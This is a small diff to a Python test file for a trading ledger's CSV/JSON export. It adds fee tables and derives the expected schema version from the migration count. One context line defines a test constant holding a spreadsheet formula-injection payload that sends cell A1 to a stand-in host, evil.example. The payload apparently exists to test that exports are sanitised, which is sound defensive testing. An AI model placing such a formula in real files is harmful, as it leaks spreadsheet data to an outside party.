@@ -19,6 +19,7 @@ from hydra.ops.exit_codes import ExitCode
 from hydra.store.export_writing import as_csv, as_json, write_export
 from hydra.store.exporting import Cell, Export, exported
 from hydra.store.ledger import Ledger
+from hydra.store.schema import MIGRATIONS
 from hydra.trading.differences import DifferenceKind
 from hydra.trading.orders import Side
 from hydra.trading.trading_state import Cause, CauseClass, TradingState
@@ -29,7 +30,7 @@ from tests.store.orders import AT, approved, decision, filled
 
 TABLES = [
     "orders", "fills", "positions", "lots", "bots", "counters", "budgets", "halts", "exclusions",
-    "values", "facts",
+    "fees", "fee_bookings", "values", "facts",
 ]  # fmt: skip
 UTC = "2024-01-02T14:30:00.000000000Z"
 EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
@@ -213,7 +214,7 @@ def test_csv_and_json_say_the_same_and_which_moment_it_is(ledger: Path, tmp_path
     about = {row["name"]: row["value"] for row in read_csv(tmp_path / "out" / "about.csv")}
     assert about == {
         "format": "1",
-        "schema_version": "2",
+        "schema_version": str(len(MIGRATIONS)),
         "ledger_seq": str(export.mark.seq),
         "ledger_chain": export.mark.chain,
         "state_hash": export.state_hash,
